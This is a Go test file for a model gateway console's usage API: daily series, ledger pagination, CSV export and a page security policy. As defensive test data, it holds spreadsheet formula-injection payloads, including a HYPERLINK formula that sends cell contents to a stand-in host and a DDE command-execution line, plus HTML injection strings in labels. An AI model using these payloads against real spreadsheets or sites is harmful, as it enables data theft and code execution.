package console

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/alicebob/miniredis/v2"
	"github.com/redis/go-redis/v9"

	"github.com/modelgateway/gateway/internal/account"
	"github.com/modelgateway/gateway/internal/auth"
	"github.com/modelgateway/gateway/internal/ledger"
	"github.com/modelgateway/gateway/internal/store"
	"github.com/modelgateway/gateway/internal/testclock"
	"github.com/modelgateway/gateway/internal/usage"
)

type fixture struct {
	mux      *http.ServeMux
	mr       *miniredis.Miniredis
	st       *store.Store
	clk      *testclock.Clock
	acct     string
	ro, cr   string
	keyID    string
	otherRO  string
	otherAcc string
}

func setup(t *testing.T) *fixture {
	t.Helper()
	mr := miniredis.RunT(t)
	rdb := redis.NewClient(&redis.Options{Addr: mr.Addr()})
	t.Cleanup(func() { rdb.Close() })
	f := &fixture{mr: mr, clk: testclock.New(time.Date(2026, 3, 31, 23, 0, 0, 0, time.UTC))}
	mr.SetTime(f.clk.Now())
	f.st = store.New(rdb, store.Options{Now: f.clk.Now})
	ctx := context.Background()
	a, err := f.st.CreateAccount(ctx, "a", 5_000_000_000, account.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	f.acct = a.ID
	var k account.Key
	if f.cr, k, err = f.st.CreateKey(ctx, a.ID, account.ModelKey, account.KeyOptions{Label: "<b>ci</b>"}); err != nil {
		t.Fatal(err)
	}
	f.keyID = k.ID
	if f.ro, _, err = f.st.CreateKey(ctx, a.ID, account.ReadOnlyToken, account.KeyOptions{}); err != nil {
		t.Fatal(err)
	}
	b, err := f.st.CreateAccount(ctx, "b", 1_000_000_000, account.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	f.otherAcc = b.ID
	if f.otherRO, _, err = f.st.CreateKey(ctx, b.ID, account.ReadOnlyToken, account.KeyOptions{}); err != nil {
		t.Fatal(err)
	}
	f.mux = http.NewServeMux()
	Mount(f.mux, APIOptions{Store: f.st, Keys: auth.NewCache(f.st, time.Nanosecond), Now: f.clk.Now})
	return f
}

// at moves the store's and Redis's clocks.
// at sets the clocks to t: the store's and Redis's, whose TTLs run out by
// the time passed.
func (f *fixture) at(t time.Time) {
	if d := t.Sub(f.clk.Now()); d > 0 {
		f.mr.FastForward(d)
	}
	f.clk.Set(t)
	f.mr.SetTime(t)
}

func (f *fixture) settle(t *testing.T, id string, cost int64) {
	t.Helper()
	ctx := context.Background()
	if d, err := f.st.Admit(ctx, &account.Admission{RequestID: id, AccountID: f.acct, KeyID: f.keyID, Priced: "m", Hold: cost}); err != nil || d.Outcome != account.Admitted {
		t.Fatalf("admit: %+v %v", d, err)
	}
	_, err := f.st.Settle(ctx, account.Settlement{
		RequestID: id, AccountID: f.acct, KeyID: f.keyID, Requested: "m-req", Priced: "<img src=x>", Reported: "m-rep",
		Usage: usage.Usage{Input: 10, Output: 5, CacheRead: 2, CodeInterpreter: 1}, Rates: usage.Usage{Input: 3_000_000_000},
		Cost: cost, Status: 200, Estimated: true, StartedAt: f.clk.Now().Add(-time.Second), EndedAt: f.clk.Now(),
	})
	if err != nil {
		t.Fatal(err)
	}
}

func (f *fixture) get(t *testing.T, token, target string) *httptest.ResponseRecorder {
	t.Helper()
	rec := httptest.NewRecorder()
	req := httptest.NewRequest("GET", target, nil)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	f.mux.ServeHTTP(rec, req)
	return rec
}

func decode[T any](t *testing.T, rec *httptest.ResponseRecorder) T {
	t.Helper()
	if rec.Code != 200 {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	var v T
	if err := json.Unmarshal(rec.Body.Bytes(), &v); err != nil {
		t.Fatal(err)
	}
	return v
}

func TestDailySeries(t *testing.T) {
	f := setup(t)
	f.settle(t, "r1", 250_000_000) // Mar 31
	f.at(time.Date(2026, 4, 2, 10, 0, 0, 0, time.UTC))
	f.settle(t, "r2", 1_000_000_001)
	f.settle(t, "r3", 1)

	d := decode[Daily](t, f.get(t, f.ro, "/v1/usage/daily?days=3"))
	want := []struct {
		date     string
		requests int64
		cost     float64
	}{{"2026-03-31", 1, 0.25}, {"2026-04-01", 0, 0}, {"2026-04-02", 2, 1.000000002}}
	if len(d.Days) != len(want) {
		t.Fatalf("days: %+v", d.Days)
	}
	for i, w := range want {
		g := d.Days[i]
		if g.Date != w.date || g.Requests != w.requests || g.CostUSD != w.cost {
			t.Errorf("day %d: got %s %d %v, want %+v", i, g.Date, g.Requests, g.CostUSD, w)
		}
	}
	if d.Days[2].InputTokens != 20 || d.Days[2].CacheReadTokens != 4 {
		t.Errorf("quantities: %+v", d.Days[2])
	}
	// The default is the longest series, one entry per day ending today.
	full := decode[Daily](t, f.get(t, f.cr, "/v1/usage/daily"))
	if len(full.Days) != store.MaxSeriesDays || full.Days[len(full.Days)-1].Date != "2026-04-02" {
		t.Fatalf("default series: %d days, last %+v", len(full.Days), full.Days[len(full.Days)-1])
	}
	// Another account's token sees its own account: nothing spent.
	other := decode[Daily](t, f.get(t, f.otherRO, "/v1/usage/daily?days=3"))
	for _, day := range other.Days {
		if day.Requests != 0 || day.CostUSD != 0 {
			t.Fatalf("other account sees spend: %+v", other.Days)
		}
	}
	for _, q := range []string{"days=0", "days=91", "days=x", "days=1&days=2", "period=day", "days=1;x=2"} {
		if rec := f.get(t, f.ro, "/v1/usage/daily?"+q); rec.Code != 400 || !strings.Contains(rec.Body.String(), "invalid_request_error") {
			t.Errorf("%s: %d %s", q, rec.Code, rec.Body)
		}
	}
}

func TestDataAPIAuthentication(t *testing.T) {
	f := setup(t)
	for _, p := range []string{PathDaily, PathLedger, PathLedgerCSV} {
		for _, tok := range []string{"", "ro_nope", "cr_" + strings.Repeat("x", 43)} {
			if rec := f.get(t, tok, p); rec.Code != 401 || !strings.Contains(rec.Body.String(), "authentication_error") {
				t.Errorf("%s with %q: %d %s", p, tok, rec.Code, rec.Body)
			}
		}
		rec := httptest.NewRecorder()
		req := httptest.NewRequest("POST", p, nil)
		req.Header.Set("Authorization", "Bearer "+f.ro)
		f.mux.ServeHTTP(rec, req)
		if rec.Code != 405 || rec.Header().Get("Allow") != "GET" {
			t.Errorf("POST %s: %d", p, rec.Code)
		}
	}
	if rec := f.get(t, f.ro, "/v1/usage/nothing"); rec.Code != 404 {
		t.Errorf("unknown path: %d", rec.Code)
	}
}

func TestLedgerPagesNewestFirst(t *testing.T) {
	f := setup(t)
	for i, id := range []string{"r1", "r2", "r3", "r4", "r5"} {
		f.at(time.Date(2026, 4, 1, 0, 0, i, 0, time.UTC))
		f.settle(t, id, int64(i+1))
	}
	var got []string
	cursor := ""
	for pages := 0; ; pages++ {
		if pages > 5 {
			t.Fatal("the cursor does not end")
		}
		target := "/v1/usage/ledger?limit=2"
		if cursor != "" {
			target += "&cursor=" + cursor
		}
		p := decode[LedgerPage](t, f.get(t, f.ro, target))
		for _, e := range p.Entries {
			got = append(got, e.RequestID)
			if e.KeyLabel != "<b>ci</b>" || e.Model != "<img src=x>" || !e.Estimated || e.InputTokens != 10 || e.CodeInterpreterSessions != 1 {
				t.Errorf("entry: %+v", e)
			}
		}
		if cursor = p.NextCursor; cursor == "" {
			break
		}
	}
	if strings.Join(got, ",") != "r5,r4,r3,r2,r1" {
		t.Fatalf("pages: %v", got)
	}
	if p := decode[LedgerPage](t, f.get(t, f.otherRO, "/v1/usage/ledger")); len(p.Entries) != 0 {
		t.Fatalf("another account's token reads this ledger: %+v", p.Entries)
	}
	for _, q := range []string{"cursor=abc", "limit=0", "limit=501", "limit=2&limit=3", "after=1-0"} {
		if rec := f.get(t, f.ro, "/v1/usage/ledger?"+q); rec.Code != 400 {
			t.Errorf("%s: %d %s", q, rec.Code, rec.Body)
		}
	}
}

func TestLedgerCSVHoldsOneMonth(t *testing.T) {
	f := setup(t)
	f.at(time.Date(2026, 3, 31, 23, 59, 59, 0, time.UTC))
	f.settle(t, "march", 7)
	f.at(time.Date(2026, 4, 1, 0, 0, 0, 0, time.UTC))
	f.settle(t, "april-1", 1_500_000_000)
	f.at(time.Date(2026, 4, 30, 23, 59, 59, 999_000_000, time.UTC))
	f.settle(t, "april-30", 123)
	f.at(time.Date(2026, 5, 1, 0, 0, 0, 0, time.UTC))
	f.settle(t, "may", 9)

	rec := f.get(t, f.cr, "/v1/usage/ledger.csv?month=2026-04")
	if rec.Code != 200 || rec.Header().Get("Content-Type") != "text/csv; charset=utf-8" ||
		!strings.Contains(rec.Header().Get("Content-Disposition"), `filename="ledger-2026-04.csv"`) {
		t.Fatalf("%d %v", rec.Code, rec.Header())
	}
	rows, err := csv.NewReader(rec.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(rows[0], ",") != strings.Join(CSVHeader(), ",") || len(rows) != 3 {
		t.Fatalf("rows: %q", rows)
	}
	col := func(row []string, name string) string {
		for i, h := range rows[0] {
			if h == name {
				return row[i]
			}
		}
		t.Fatalf("no column %s", name)
		return ""
	}
	if col(rows[1], "request_id") != "april-1" || col(rows[2], "request_id") != "april-30" {
		t.Fatalf("rows: %q", rows)
	}
	r := rows[1]
	for name, want := range map[string]string{
		"cost_nano_usd": "1500000000", "cost_usd": "1.50", "model": "<img src=x>", "model_requested": "m-req",
		"key_label": "<b>ci</b>", "key_id": f.keyID, "status": "200", "estimated": "true", "input": "10",
		"price_input": "3000000000", "end_time": "2026-04-01T00:00:00.000Z", "start_time": "2026-03-31T23:59:59.000Z",
	} {
		if got := col(r, name); got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	if got := col(rows[2], "cost_usd"); got != "0.000000123" {
		t.Errorf("cost_usd = %q", got)
	}
	// Default: the current month (May).
	rec = f.get(t, f.ro, "/v1/usage/ledger.csv")
	if rows, _ := csv.NewReader(rec.Body).ReadAll(); len(rows) != 2 || rows[1][1] != "may" {
		t.Fatalf("current month: %q", rows)
	}
	// Another account's token gets its own, empty, ledger.
	rec = f.get(t, f.otherRO, "/v1/usage/ledger.csv?month=2026-04")
	if rows, _ := csv.NewReader(rec.Body).ReadAll(); rec.Code != 200 || len(rows) != 1 {
		t.Fatalf("other account: %d %q", rec.Code, rows)
	}
	for _, q := range []string{"month=2026-4", "month=april", "month=2026-04-01", "from=2026-04"} {
		if rec := f.get(t, f.ro, "/v1/usage/ledger.csv?"+q); rec.Code != 400 {
			t.Errorf("%s: %d", q, rec.Code)
		}
	}
}

// A text cell of the CSV that a spreadsheet would run as a formula
// (starting with =, +, -, @, tab or CR) gets a leading '; other text, and
// the numbers the gateway writes (a negative cost among them), are as they
// were; the JSON ledger keeps every string exact.
func TestLedgerCSVFormulas(t *testing.T) {
	f := setup(t)
	ctx := context.Background()
	_, k, err := f.st.CreateKey(ctx, f.acct, account.ModelKey, account.KeyOptions{Label: "@SUM(A1:A9)"})
	if err != nil {
		t.Fatal(err)
	}
	models := []string{`=HYPERLINK("http://x.example/?"&A1,"open")`, `+cmd|' /C calc'!A0`, "-2+3", "@SUM(1+1)",
		"\t=1+1", "\r=1+1", "plain-model", "a=b", ""}
	for i, m := range models {
		req := fmt.Sprintf("r%d", i)
		if d, err := f.st.Admit(ctx, &account.Admission{RequestID: req, AccountID: f.acct, KeyID: k.ID, Priced: "m", Hold: 1000}); err != nil || d.Outcome != account.Admitted {
			t.Fatalf("admit: %+v %v", d, err)
		}
		if _, err := f.st.Settle(ctx, account.Settlement{RequestID: req, AccountID: f.acct, KeyID: k.ID,
			Requested: usage.RequestedModel(m), Priced: usage.PricedModel(m), Reported: usage.ReportedModel(m), Status: 200, Cost: 123,
			StartedAt: f.clk.Now(), EndedAt: f.clk.Now()}); err != nil {
			t.Fatal(err)
		}
	}
	rec := f.get(t, f.ro, "/v1/usage/ledger.csv?month=2026-03")
	rows, err := csv.NewReader(rec.Body).ReadAll()
	if err != nil || rec.Code != 200 || len(rows) != len(models)+1 {
		t.Fatalf("%d, %d rows, %v", rec.Code, len(rows), err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for i, m := range models {
		want := m
		if m != "" && strings.ContainsAny(m[:1], "=+-@\t\r") {
			want = "'" + m
		}
		r := rows[i+1]
		for _, c := range []string{"model", "model_requested", "model_reported"} {
			if r[col[c]] != want {
				t.Errorf("%s of %q: %q, want %q", c, m, r[col[c]], want)
			}
		}
		for c, want := range map[string]string{"key_label": "'@SUM(A1:A9)", "key_id": k.ID, "request_id": fmt.Sprintf("r%d", i),
			"cost_nano_usd": "123", "cost_usd": "0.000000123", "status": "200"} {
			if r[col[c]] != want {
				t.Errorf("%s of %q: %q, want %q", c, m, r[col[c]], want)
			}
		}
	}
	// A reconciled entry that returns money: its numbers stay numbers.
	r := csvRow(ledger.Entry{ID: "1-0", Settlement: account.Settlement{Cost: -123, Reconciled: true}}, "")
	if got := r[col["cost_nano_usd"]] + "," + r[col["cost_usd"]]; got != "-123,-0.000000123" {
		t.Errorf("a negative cost is written %s", got)
	}
	for _, c := range []rune{'=', '+', '-', '@', '\t', '\r'} {
		if got := csvText(string(c) + "x"); got != "'"+string(c)+"x" {
			t.Errorf("csvText(%q) = %q", string(c)+"x", got)
		}
	}

	p := decode[LedgerPage](t, f.get(t, f.ro, "/v1/usage/ledger?limit=100"))
	if len(p.Entries) != len(models) {
		t.Fatalf("%d JSON entries", len(p.Entries))
	}
	for _, e := range p.Entries {
		m := models[e.RequestID[1]-'0']
		if e.Model != m || e.ModelRequested != m || e.ModelReported != m || e.KeyLabel != "@SUM(A1:A9)" || e.CostNanoUSD != 123 {
			t.Errorf("JSON entry %s: %q %q %q %q %d, want %q exact", e.RequestID, e.Model, e.ModelRequested, e.ModelReported, e.KeyLabel, e.CostNanoUSD, m)
		}
	}
}

// The customer page is a template with no inline script or style, served
// with a policy that forbids them; its assets are embedded.
func TestCustomerPage(t *testing.T) {
	f := setup(t)
	rec := f.get(t, "", "/console/")
	if rec.Code != 200 {
		t.Fatalf("%d", rec.Code)
	}
	if csp := rec.Header().Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe-inline") {
		t.Fatalf("CSP: %q", csp)
	}
	body := rec.Body.String()
	for _, re := range []string{`<script[^>]*>\s*[^<\s]`, `\son[a-z]+=`, `\sstyle=`, `<style`} {
		if regexp.MustCompile(re).MatchString(body) {
			t.Errorf("inline markup matching %s", re)
		}
	}
	for _, m := range regexp.MustCompile(`<script[^>]*>`).FindAllString(body, -1) {
		if !strings.Contains(m, ` src="/console/static/`) {
			t.Errorf("script without a local src: %s", m)
		}
	}
	for _, p := range []string{"/console/static/customer.js", "/console/static/console.css", "/console/static/vendor/uplot/uPlot.iife.min.js", "/console/static/vendor/uplot/LICENSE"} {
		if rec := f.get(t, "", p); rec.Code != 200 || rec.Body.Len() == 0 {
			t.Errorf("%s: %d", p, rec.Code)
		}
	}
	if rec := f.get(t, "", "/console"); rec.Code != http.StatusMovedPermanently || rec.Header().Get("Location") != "/console/" {
		t.Errorf("/console: %d %v", rec.Code, rec.Header())
	}
	if rec := f.get(t, "", "/console/nothing"); rec.Code != 404 {
		t.Errorf("/console/nothing: %d", rec.Code)
	}
}
